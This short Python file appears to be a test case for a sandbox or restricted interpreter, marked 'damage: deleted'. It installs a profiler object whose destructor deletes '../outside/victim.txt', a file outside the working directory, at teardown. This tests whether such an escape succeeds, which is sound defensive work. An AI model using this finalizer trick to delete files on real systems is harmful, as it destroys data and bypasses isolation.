# The object of a profile function goes with the thread.
# status: any
# damage: deleted
import posix
import sys


class Profile:
    def __call__(self, frame, event, argument):
        pass

    def __del__(self, unlink=posix.unlink):
        unlink("../outside/victim.txt")


sys.setprofile(Profile())
